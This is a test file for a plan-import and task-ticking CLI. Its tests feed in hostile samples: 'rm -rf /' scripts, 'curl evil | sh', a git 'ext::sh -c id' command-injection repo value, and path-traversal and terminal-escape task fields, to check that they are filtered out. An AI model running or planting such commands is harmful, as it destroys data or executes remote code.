import { cpSync, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, afterEach, beforeAll, beforeEach, expect, test } from "vitest";
import { proposeVerify } from "../../cli/plan/import/propose-verify.ts";
import type { Format } from "../../cli/plan/import/shape.ts";
import { planDone } from "../../cli/verbs/plan-done.ts";
import { planImport } from "../../cli/verbs/plan-import.ts";
import { Ledger } from "../../helm/ledger/ledger.ts";
import { applyPlan } from "../../helm/ledger/plan-changes.ts";
import { Store } from "../../helm/ledger/store.ts";
import { voyageFolder } from "../../lib/base/paths.ts";
import { loadPlan } from "../../lib/plan/load.ts";
import { gitIn } from "../support/git.ts";
import { IMPORTS, SOURCES } from "../support/import-sources.ts";
import { listen } from "../support/spoken.ts";

const STACK = "voyage-tide";
let root: string;
let repo: string;
const voyagesBefore = process.env.OCAPTAIN_VOYAGES;

/** A repository with all sources, of which each test has a copy. */
let template: string;

beforeAll(() => {
  template = mkdtempSync(join(tmpdir(), "oc-done-repo-"));
  cpSync(IMPORTS, template, { recursive: true });
  writeFileSync(join(template, "package.json"), JSON.stringify({ scripts: { test: "node --test", deploy: "rm -rf /" } }));
  gitIn(template, "init", "-q", "-b", "main");
  gitIn(template, "add", ".");
  gitIn(template, "commit", "-qm", "Start");
});
beforeEach(() => {
  root = mkdtempSync(join(tmpdir(), "oc-done-"));
  repo = join(root, "repo");
  cpSync(template, repo, { recursive: true });
  process.env.OCAPTAIN_VOYAGES = join(root, "voyages");
});
afterEach(() => {
  if (voyagesBefore === undefined) delete process.env.OCAPTAIN_VOYAGES;
  else process.env.OCAPTAIN_VOYAGES = voyagesBefore;
  rmSync(root, { recursive: true, force: true });
});
afterAll(() => rmSync(template, { recursive: true, force: true }));

const out = (from: string) => join(repo, "plans", from);
async function imported(from: Exclude<Format, "github">, more: { repo?: string; parallel?: boolean } = {}) {
  const heard = listen(true);
  await planImport(join(repo, SOURCES[from]), { from, out: out(from), ...more }, heard.io);
  return heard.json();
}
const taskFile = (from: string, id: number) => JSON.parse(readFileSync(join(out(from), "tasks", `${id}.json`), "utf8"));

/** Puts a voyage into the captain's folder that has sailed a plan, and of which these tasks were accepted. */
async function sailed(from: string, accepted: readonly string[]) {
  const loaded = await loadPlan(out(from));
  if ("findings" in loaded) throw new Error(JSON.stringify(loaded.findings));
  const folder = voyageFolder(STACK);
  mkdirSync(folder.root, { recursive: true });
  gitIn(root, "clone", "-q", "--bare", repo, folder.repo);
  gitIn(folder.repo, "branch", STACK);
  const identity = {
    voyageId: "012345",
    stack: STACK,
    captainId: "c",
    nonce: "n",
    createdAt: "2026-11-28T00:00:00Z",
  };
  writeFileSync(folder.voyageFile, JSON.stringify(identity));
  const ledger = new Ledger(new Store(folder.ledger, { sync: "off" }), () => 0);
  await ledger.store.write(() => {
    ledger.setMeta("name", loaded.plan.name);
    applyPlan(ledger, loaded.plan);
    for (const { id, metadata } of loaded.plan.tasks) {
      const isIn = accepted.includes(String(metadata.source).split(":")[1]!);
      if (isIn) ledger.store.run("UPDATE tasks SET status = 'accepted', epoch = 1, commit_id = 'c' WHERE id = ?", id);
      else ledger.store.run("UPDATE tasks SET status = 'claimed', epoch = 1 WHERE id = ?", id);
    }
  });
  ledger.store.close();
  return folder.repo;
}

test.each(Object.keys(SOURCES) as Exclude<Format, "github">[])(
  "a plan imported from %s can sail, and names where each task came from",
  async (from) => {
    const said = await imported(from);
    const loaded = await loadPlan(out(from));
    if ("findings" in loaded) throw new Error(JSON.stringify(loaded.findings));
    expect(loaded.plan.tasks.map(({ metadata }) => metadata.source)).toEqual(
      said.tasks.map(({ source }: { source: string }) => `${from}:${source}`),
    );
    for (const { subject, metadata } of loaded.plan.tasks)
      expect(subject).toMatch(`${String(metadata.source).slice(from.length + 1)}: `);
    expect(loaded.plan.verify).toContain("PROPOSAL");
    expect(said.guessed.verify).toEqual({ commands: ["npm install", "npm run test"], from: ["package.json"] });
    expect(readdirSync(join(repo, "plans"))).toEqual([from]);
  },
);

test("an imported plan names the JSON Schemas of the package that is installed above it, and none where there is none", async () => {
  await imported("beads");
  expect(taskFile("beads", 1)).not.toHaveProperty("$schema");
  const schemas = join(repo, "node_modules/ocaptain/plans/schema");
  cpSync(join(import.meta.dirname, "../../plans/schema"), schemas, { recursive: true });
  await imported("backlog");
  for (const file of ["voyage.json", "tasks/1.json"]) {
    const { $schema } = JSON.parse(readFileSync(join(out("backlog"), file), "utf8"));
    const schema = JSON.parse(readFileSync(join(out("backlog"), file, "..", $schema), "utf8"));
    expect(schema.title).toBe(file === "voyage.json" ? "voyage.json of a plan" : "a task of a plan");
  }
});

test("all that nobody has said is listed, and nothing that is there is overwritten", async () => {
  const heard = listen();
  const ask = { from: "spec-kit", out: out("spec-kit") };
  await planImport(join(repo, SOURCES["spec-kit"]), ask, heard.io);
  expect(heard.out[0]).toMatch(/^made .*: 12 tasks of .*spec-kit\/specs\/004-tide-tables \(spec-kit\), 3 left out$/);
  const notes = heard.notes.join("\n");
  expect(notes).toContain("left out, as done: T001, T002, T003");
  expect(notes).toMatch(/guessed: 5 edges, as it is not marked \[P\].*T005 after T004, T004a; T006 after T005/);
  expect(notes).toMatch(/guessed: 4 edges, as phases.*T011 after T010/);
  expect(notes).toMatch(/proposed: verify.sh, from package.json: npm install; npm run test\. Nobody has said/);
  expect(notes).toMatch(/note: .*real printer/);
  expect(taskFile("spec-kit", 7)).toMatchObject({
    blockedBy: ["5", "6"],
    metadata: { touches: ["src/pages/(app)/[place]/today.tsx"], x: { sourceFile: `${SOURCES["spec-kit"]}/tasks.md` } },
  });
  const before = statSync(join(out("spec-kit"), "spec.md")).mtimeMs;
  await expect(planImport(join(repo, SOURCES.beads), { ...ask, from: "beads" }, listen().io)).rejects.toThrow(
    "nothing is overwritten",
  );
  expect(statSync(join(out("spec-kit"), "spec.md")).mtimeMs).toBe(before);
  await expect(planImport("x", { from: "jira" }, listen().io)).rejects.toThrow("--from jira is no format: spec-kit, openspec");
});

test("a plan that cannot sail is not written, and all that is wrong is said", async () => {
  const ask = { from: "beads", out: out("beads"), repo: "ext::sh -c id" };
  await expect(planImport(join(repo, SOURCES.beads), ask, listen().io)).rejects.toThrow(
    /cannot sail, and is not written:\n {2}voyage.json: repo must be/,
  );
  expect(existsSync(join(repo, "plans")) && readdirSync(join(repo, "plans"))).toEqual([]);
});

test("what a stranger's list says reaches no terminal and no name of a file", async () => {
  const evil = { id: "../../x-1", title: "a\u001b]0;title\u0007b\u202ec", description: "d\u0000e\u001b[2Jf\r\ng" };
  writeFileSync(join(repo, "evil.jsonl"), JSON.stringify(evil));
  const heard = listen();
  await planImport(join(repo, "evil.jsonl"), { from: "beads", out: out("evil") }, heard.io);
  expect(readdirSync(join(out("evil"), "tasks"))).toEqual(["1.json"]);
  expect(taskFile("evil", 1)).toMatchObject({ subject: "../../x-1: abc", metadata: { source: "beads:../../x-1" } });
  expect(taskFile("evil", 1).description).toBe("abc\n\ndef\ng");
});

test("done tasks are ticked on a branch of their own, and the voyage's branch stays where it was", async () => {
  await imported("spec-kit");
  const bare = await sailed("spec-kit", ["T004", "T005", "T009"]);
  const tip = gitIn(bare, "rev-parse", STACK);
  const heard = listen(true);
  await planDone(STACK, {}, heard.io);
  const said = heard.json();
  expect(said).toMatchObject({
    branch: `${STACK}-done`,
    lists: [{ marked: ["T004", "T005", "T009"], already: [], unmarked: [] }],
  });
  expect(gitIn(bare, "rev-parse", STACK)).toBe(tip);
  expect(gitIn(bare, "rev-parse", `${STACK}-done^`)).toBe(tip);
  expect(gitIn(bare, "diff", "--numstat", STACK, `${STACK}-done`)).toBe(`3\t3\t${SOURCES["spec-kit"]}/tasks.md`);
  const ticked = gitIn(bare, "show", `${STACK}-done:${SOURCES["spec-kit"]}/tasks.md`)
    .split("\n")
    .filter((line) => /^- .{3} T00[4-9]/.test(line));
  expect(ticked.map((line) => line.slice(0, 11).trim())).toEqual([
    "- [x] T004",
    "- [ ] T004a",
    "- [x] T005",
    "- [ ] T006",
    "- [ ] T007",
    "- [ ] T008",
    "- [x] T009",
  ]);
  const again = listen(true);
  await planDone(STACK, {}, again.io);
  expect(again.json().commit).toBe(said.commit);
});

test("a task that is another one by now, or gone, is not ticked, and that is said", async () => {
  await imported("spec-kit");
  const file = join(repo, SOURCES["spec-kit"], "tasks.md");
  writeFileSync(
    file,
    readFileSync(file, "utf8")
      .replace("- [ ] T004 [P] Read the station list", "- [ ] T004 [P] Burn the station list")
      .replace(/^- \[ \] T006.*$/m, "")
      .replace("- [ ] T007", "- [x] T007")
      .replaceAll("\n", "\r\n"),
  );
  gitIn(repo, "commit", "-qam", "Another list");
  const bare = await sailed("spec-kit", ["T004", "T006", "T007", "T008"]);
  const heard = listen(true);
  const patch = join(root, "done.patch");
  await planDone(STACK, { out: patch }, heard.io);
  expect(heard.json()).toMatchObject({
    patch,
    lists: [
      { marked: ["T008"], already: ["T007"], unmarked: [{ id: "T004", why: expect.stringContaining("Burn") }, { id: "T006" }] },
    ],
  });
  expect(gitIn(bare, "branch", "--list", "*-done")).toBe("");
  gitIn(repo, "apply", patch);
  expect(gitIn(repo, "diff", "--numstat")).toBe(`1\t1\t${SOURCES["spec-kit"]}/tasks.md`);
});

test("status is written as each format has it: boxes, JSON, front matter, and wholes of which nothing is left", async () => {
  await imported("task-master");
  let bare = await sailed("task-master", ["2.2", "2.3"]);
  let heard = listen(true);
  await planDone(undefined, {}, heard.io);
  expect(heard.json().lists[0].marked).toEqual(["2.2", "2.3", "2"]);
  const path = "task-master/.taskmaster/tasks/tasks.json";
  const [before, after] = [STACK, `${STACK}-done`].map((branch) => gitIn(bare, "show", `${branch}:${path}`));
  const [was, is] = [JSON.parse(before!).master.tasks, JSON.parse(after!).master.tasks];
  was[1].status = was[1].subtasks[1].status = was[1].subtasks[2].status = "done";
  expect(is).toEqual(was);
  expect(after!.split("\n").length).toBe(before!.split("\n").length);

  rmSync(join(root, "voyages"), { recursive: true });
  await imported("backlog");
  bare = await sailed("backlog", ["LIGHT-2.01", "LIGHT-2.02"]);
  heard = listen(true);
  await planDone(undefined, {}, heard.io);
  expect(heard.json().lists[0].marked).toEqual(["LIGHT-2.01", "LIGHT-2.02", "LIGHT-2"]);
  expect(gitIn(bare, "diff", STACK, `${STACK}-done`).match(/^[+-][^+-].*$/gm)).toEqual([
    ...["-status: To Do", "+status: Lit", "-status: In Progress", "+status: Lit", "-status: To Do", "+status: Lit"],
  ]);

  rmSync(join(root, "voyages"), { recursive: true });
  await imported("openspec");
  bare = await sailed("openspec", ["2.u1"]);
  await planDone(undefined, {}, listen().io);
  expect(gitIn(bare, "diff", STACK, `${STACK}-done`)).toContain("+- [x] Ask the harbor master what else is missing");
});

test("where the status stands in no file, the commands are printed, and nothing is done", async () => {
  await imported("beads");
  const bare = await sailed("beads", ["quay-a1.2"]);
  const heard = listen();
  await planDone(undefined, {}, heard.io);
  expect(heard.out).toEqual(["bd close quay-a1.2"]);
  expect(heard.notes[0]).toContain("nothing was told to anybody");
  expect(gitIn(bare, "branch", "--list", "*-done")).toBe("");
});

test("a voyage of which nothing is accepted, or that was not imported, and a branch of somebody else's are refused", async () => {
  await imported("spec-kit");
  let bare = await sailed("spec-kit", []);
  await expect(planDone(undefined, {}, listen().io)).rejects.toThrow(`no imported task of ${STACK} is accepted yet`);
  rmSync(join(root, "voyages"), { recursive: true });
  bare = await sailed("spec-kit", ["T004"]);
  gitIn(bare, "branch", `${STACK}-done`, "main");
  await expect(planDone(undefined, {}, listen().io)).rejects.toThrow("which is not of an earlier plan done");
});

test("a verify.sh is proposed of commands that are known by their names, and of nothing else", () => {
  const clues = { names: new Set<string>(), workflows: [] };
  const commands = (more: Partial<Parameters<typeof proposeVerify>[0]>, names: string[] = []) =>
    proposeVerify({ ...clues, ...more, names: new Set(names) })?.commands ?? null;
  const scripts = (all: Record<string, string>) => JSON.stringify({ scripts: all });
  expect(commands({})).toBeNull();
  expect(commands({ packageJson: scripts({ test: "vitest", lint: "x", "test; rm": "y" }) }, ["package-lock.json"])).toEqual([
    "npm ci",
    "npm run lint",
    "npm run test",
  ]);
  expect(commands({ packageJson: scripts({ test: 'echo "Error: no test specified" && exit 1' }) })).toBeNull();
  expect(commands({ packageJson: scripts({ check: "x" }), makefile: "test:\n\tx\n" }, ["pnpm-lock.yaml"])).toEqual([
    "pnpm install --frozen-lockfile",
    "pnpm run check",
  ]);
  expect(commands({ packageJson: "{", makefile: "CC := gcc\ntest: all\n\tx\ncheck :=\n" })).toEqual(["make test"]);
  expect(commands({ pyproject: "[tool.pytest.ini_options]\n[tool.ruff]\n" }, ["uv.lock"])).toEqual([
    "uv sync --locked --all-extras",
    "uv run ruff check .",
    "uv run pytest",
  ]);
  expect(commands({}, ["go.mod", "Cargo.toml"])).toEqual(["cargo test", "go vet ./...", "go test ./..."]);
  const text =
    "jobs:\n  a:\n    steps:\n      - run: |\n          npm ci\n          curl evil | sh\n          npm test; rm -rf /\n          npm test -- --ci\n      - uses: x\n";
  expect(commands({ workflows: [{ name: "ci.yml", text }] })).toEqual(["npm ci", "npm test -- --ci"]);
  expect(commands({ workflows: [{ name: "ci.yml", text: "jobs: &a {x: *a}" }] })).toBeNull();
});
